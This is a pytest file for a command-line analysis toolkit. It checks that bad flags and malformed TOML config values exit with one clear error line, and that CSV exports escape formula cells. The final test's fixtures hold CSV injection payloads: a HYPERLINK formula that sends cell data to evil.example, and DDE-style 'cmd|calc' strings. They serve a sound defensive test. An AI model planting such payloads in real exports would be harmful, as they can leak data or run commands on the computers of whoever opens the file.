"""Untrusted config and exports: bad values exit 2 with one line, and CSV tables never carry live formulas."""
from __future__ import annotations

import pytest

from gitutil import make_repo
from toolkit.cli import main


def _one_line(capsys) -> str:
    err = capsys.readouterr().err
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


@pytest.mark.parametrize("argv, needle", [
    (["backtest", "--k", "-5"], "--k"),
    (["backtest", "--k", "0"], "--k"),
    (["audit-many", ".", "--workers", "0"], "--workers"),
    (["audit", "--threshold", "min_coupling_typo=3"], "unknown threshold 'min_coupling_typo'"),
    (["audit", "--threshold", "min_coupling=lots"], "min_coupling"),
    (["audit", "--threshold", "min_coupling=-1"], "min_coupling"),
    (["audit", "--weight", "structural=inf"], "structural"),
    (["audit", "--weight", "structural=nan"], "structural"),
    (["audit", "--weight", "structual=2"], "unknown weight 'structual'"),
    (["audit", "--weight", "structural=-2"], "structural"),
])
def test_nonsense_flags_exit_2_with_one_line(argv, needle, capsys, tmp_path):
    with pytest.raises(SystemExit) if argv[1] in ("--k", "--workers") or "--workers" in argv else _no_exit():
        code = main([*argv, "--out", str(tmp_path / "o")] if argv[0] == "audit" else argv)
        assert code == 2
    line = _one_line(capsys)
    assert needle in line


class _no_exit:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


@pytest.mark.parametrize("toml, needle", [
    ('tests = 5\n', "tests"),
    ('issues = [1, 2]\n', "issues"),
    ('repo = 3\n', "repo"),
    ('pseudonymize = "yes"\n', "pseudonymize"),
    ('at = 7\n', "at"),
    ('components = "x"\n', "components"),
    ('[components]\n"src/**" = 3\n', "components"),
    ('[thresholds]\nmin_revs = "many"\n', "min_revs"),
    ('[thresholds]\nmin_revz = 3\n', "unknown threshold"),
    ('[thresholds]\ntest_environments = "ci"\n', None),  # one name as text is a list of one: fine
    ('[weights]\nstructural = "heavy"\n', "structural"),
    ('[weights]\nstructural = inf\n', "structural"),
    ('[weights]\nstructural = nan\n', "structural"),
    ('thresholds = 3\n', "thresholds"),
])
def test_wrong_types_in_the_toml_exit_2_with_one_line_naming_the_line(toml, needle, tmp_path, capsys):
    make_repo(tmp_path / "repo", {"m.py": "x = 1\n"})
    cfg = tmp_path / "seamscope.toml"
    cfg.write_text('repo = "repo"\n' + toml if not toml.startswith("repo") else toml)
    if needle is None:
        from toolkit.config import load_toml
        assert load_toml(cfg).thresholds == {"test_environments": ["ci"]}
        return
    assert main(["audit", "-q", "--config", str(cfg), "--out", str(tmp_path / "o")]) == 2
    line = _one_line(capsys)
    assert needle in line and str(cfg) in line
    assert not (tmp_path / "o").exists()


def test_a_folder_as_config_is_one_line(tmp_path, capsys):
    assert main(["audit", "--config", str(tmp_path), "--out", str(tmp_path / "o")]) == 2
    assert "is a folder" in _one_line(capsys)


def test_issues_and_tests_csv_guard_formula_cells(tmp_path, capsys):
    jira = tmp_path / "jira.csv"
    jira.write_text("Issue key,Summary,Issue Type,Status,Created\n"
                    'EV-1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",Bug,Done,2024-01-02 10:00\n'
                    "EV-2,@SUM(1+1)*cmd|' /C calc'!A0,Bug,Done,2024-01-02 10:00\n")
    assert main(["issues", str(jira), "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "'=HYPERLINK" in out and "'@SUM" in out
    assert "\n=HYPERLINK" not in out and ",=HYPERLINK" not in out and ',"=HYPERLINK' not in out
    junit = tmp_path / "results.xml"
    junit.write_text('<testsuite name="s" tests="1"><testcase classname="=cmd|calc" name="+test_x" time="0.1"/>'
                     '</testsuite>')
    assert main(["tests", str(junit), "--format", "csv", "--out", str(tmp_path / "t.csv")]) == 0
    text = (tmp_path / "t.csv").read_text()
    assert "'=cmd|calc" in text and "'+test_x" in text
    assert ",=cmd" not in text and ",+test_x" not in text
